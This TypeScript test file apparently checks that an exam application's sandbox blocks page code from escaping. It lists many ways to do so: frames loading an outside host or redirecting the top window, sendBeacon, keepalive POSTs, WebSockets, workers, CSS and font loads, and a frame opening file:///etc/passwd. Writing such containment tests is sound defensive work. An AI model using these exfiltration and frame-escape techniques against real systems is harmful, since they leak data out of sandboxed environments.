import { inPage, type Attempt } from './attempt.ts';

const blocked = 'x.navigation.blocked';
const settle = 'await new Promise((resolve) => setTimeout(resolve, 300));';
const frame = (id: string, body: string, event: 'x.navigation.blocked' | null = blocked) =>
  inPage(id, 'frame', event, `const f = document.createElement('iframe'); ${body} ${settle}`);

/** Other people's pages inside the exam, and ways for a frame to move what is around it. */
export const frameAttempts: readonly Attempt[] = [
  frame('frame', `f.src = outside; document.body.append(f);`),
  frame('frame-later', `document.body.append(f); f.contentWindow.location = outside;`),
  frame(
    'frame-redirect',
    `f.src = exam + '/redirect?to=' + encodeURIComponent(outside); document.body.append(f);`,
  ),
  frame('frame-meta', `f.src = exam + '/meta?to=' + encodeURIComponent(outside); document.body.append(f);`),
  frame(
    'frame-srcdoc-meta',
    `f.srcdoc = '<meta http-equiv="refresh" content="0; url=' + outside + '">'; document.body.append(f);`,
  ),
  frame('frame-nested', `f.srcdoc = '<iframe src="' + outside + '"></iframe>'; document.body.append(f);`),
  frame(
    'frame-moves-top',
    `f.srcdoc = '<script>top.location = ' + JSON.stringify(outside) + '</' + 'script>'; document.body.append(f);`,
  ),
  frame(
    'frame-sandboxed-moves-top',
    `f.sandbox = 'allow-scripts allow-top-navigation'; f.srcdoc = '<script>top.location = ' + JSON.stringify(outside) + '</' + 'script>'; document.body.append(f);`,
  ),
  frame(
    'frame-opens-window',
    `f.srcdoc = '<a target="_blank" href="' + outside + '">x</a>'; f.onload = () => f.contentDocument.querySelector('a').click(); document.body.append(f);`,
  ),
  frame('frame-data', `f.src = 'data:text/html,<img src="' + outside + '/data">'; document.body.append(f);`),
  frame(
    'frame-blob',
    `f.src = URL.createObjectURL(new Blob(['<img src="' + outside + '/blob">'], { type: 'text/html' })); document.body.append(f);`,
  ),
  frame('frame-file', `f.src = 'file:///etc/passwd'; document.body.append(f);`, null),
  frame('frame-our-page', `f.src = 'app://candidate/index.html'; document.body.append(f);`),
  inPage(
    'object',
    'frame',
    blocked,
    `const o = document.createElement('object'); o.data = outside; document.body.append(o); ${settle}`,
  ),
  inPage(
    'embed',
    'frame',
    blocked,
    `const e = document.createElement('embed'); e.src = outside; document.body.append(e); ${settle}`,
  ),
  inPage(
    'frameset',
    'frame',
    blocked,
    `document.documentElement.innerHTML = '<frameset><frame src="' + outside + '"></frameset>'; ${settle}`,
  ),
  inPage(
    'webview',
    'frame',
    null,
    `const w = document.createElement('webview'); w.src = outside; document.body.append(w); ${settle}`,
  ),
  inPage(
    'fenced-frame',
    'frame',
    null,
    `const w = document.createElement('fencedframe'); document.body.append(w); try { w.config = new FencedFrameConfig(outside); } catch {} ${settle}`,
  ),
];

const reaches = (id: string, body: string, event: 'x.navigation.blocked' | null = blocked) =>
  inPage(id, 'request', event, `${body} ${settle}`);
const element = (id: string, tag: string, attribute: string, more = '') =>
  reaches(
    id,
    `const e = document.createElement('${tag}'); ${more} e.${attribute} = outside + '/${id}'; document.body.append(e);`,
  );
const link = (id: string, rel: string, more = '') =>
  reaches(
    id,
    `const e = document.createElement('link'); e.rel = '${rel}'; ${more} e.href = outside + '/${id}'; document.head.append(e);`,
  );

/** Ways to carry something out, or in, without going anywhere. */
export const requestAttempts: readonly Attempt[] = [
  reaches('fetch', `try { await fetch(outside + '/fetch?INSIDE'); return 'escaped'; } catch {}`),
  reaches('fetch-no-cors', `try { await fetch(outside, { mode: 'no-cors' }); return 'escaped'; } catch {}`),
  reaches(
    'fetch-keepalive',
    `fetch(outside, { keepalive: true, method: 'POST', body: 'INSIDE', mode: 'no-cors' }).catch(() => {});`,
  ),
  reaches(
    'fetch-redirect',
    `try { await fetch(exam + '/redirect?to=' + encodeURIComponent(outside), { mode: 'no-cors' }); return 'escaped'; } catch {}`,
  ),
  reaches('xhr', `const x = new XMLHttpRequest(); x.open('GET', outside); x.send();`),
  reaches('beacon', `navigator.sendBeacon(outside, 'INSIDE');`),
  reaches(
    'ping',
    `const a = document.createElement('a'); a.href = '#here'; a.ping = outside + '/ping'; document.body.append(a); a.click();`,
  ),
  element('image', 'img', 'src'),
  reaches(
    'image-srcset',
    `const e = document.createElement('img'); e.srcset = outside + '/srcset 1x'; document.body.append(e);`,
  ),
  element('script', 'script', 'src'),
  reaches(
    'script-module',
    `const e = document.createElement('script'); e.type = 'module'; e.src = outside + '/module'; document.head.append(e);`,
  ),
  reaches('script-import', `await import(outside + '/import').catch(() => {});`),
  element('video', 'video', 'src'),
  element('audio', 'audio', 'src'),
  reaches(
    'video-poster',
    `const e = document.createElement('video'); e.poster = outside + '/poster'; document.body.append(e);`,
  ),
  link('stylesheet', 'stylesheet'),
  reaches(
    'style-import',
    `const e = document.createElement('style'); e.textContent = '@import "' + outside + '/css"'; document.head.append(e);`,
  ),
  reaches('style-image', `document.body.style.background = 'url(' + outside + '/background)';`),
  reaches(
    'style-font',
    `const f = new FontFace('x', 'url(' + outside + '/font)'); await f.load().catch(() => {});`,
  ),
  link('preload', 'preload', `e.as = 'image';`),
  link('modulepreload', 'modulepreload'),
  link('prefetch', 'prefetch'),
  reaches('event-source', `new EventSource(outside + '/events');`),
  reaches(
    'web-socket',
    `
    const s = new WebSocket(outside.replace('http', 'ws') + '/socket');
    const said = await new Promise((resolve) => { s.onopen = () => resolve('escaped'); s.onerror = () => resolve('held'); });
    if (said === 'escaped') return said;`,
  ),
  // The policy holds within workers too, but from there nobody is told.
  reaches(
    'worker',
    `
    const w = new Worker(exam + '/worker.js?to=' + encodeURIComponent(outside)); w.postMessage(outside);
    if (await new Promise((resolve) => { w.onmessage = ({ data }) => resolve(data); setTimeout(resolve, 1500); }) === 'escaped') return 'escaped';`,
    null,
  ),
  reaches(
    'worker-of-blob',
    `
    const w = new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(outside) + ', { mode: "no-cors" }).then(() => postMessage("escaped"), () => postMessage("held"))'])));
    if (await new Promise((resolve) => { w.onmessage = ({ data }) => resolve(data); setTimeout(resolve, 1500); }) === 'escaped') return 'escaped';`,
    null,
  ),
  reaches('shared-worker', `new SharedWorker(exam + '/worker.js?to=' + encodeURIComponent(outside));`, null),
  reaches(
    'service-worker',
    `await navigator.serviceWorker.register(exam + '/worker.js?to=' + encodeURIComponent(outside)).catch(() => {}); ${settle}`,
  ),
  reaches(
    'web-transport',
    `try { await new WebTransport(outside.replace('http:', 'https:')).ready; return 'escaped'; } catch {}`,
    null,
  ),
  reaches('web-rtc', `return 'not judged: the host does not set Chromium\\'s WebRTC policy';`, null),
  reaches(
    'speculation-rules',
    `const e = document.createElement('script'); e.type = 'speculationrules'; e.textContent = JSON.stringify({ prerender: [{ urls: [outside + '/speculation'] }], prefetch: [{ urls: [outside + '/speculation'] }] }); document.head.append(e);`,
  ),
  reaches(
    'manifest',
    `const e = document.createElement('link'); e.rel = 'manifest'; e.href = outside + '/manifest'; document.head.append(e);`,
    null,
  ),
  reaches(
    'cookie-for-outside',
    `document.cookie = 'a=b; domain=example.org'; if (document.cookie.includes('a=b')) return 'escaped';`,
    null,
  ),
];
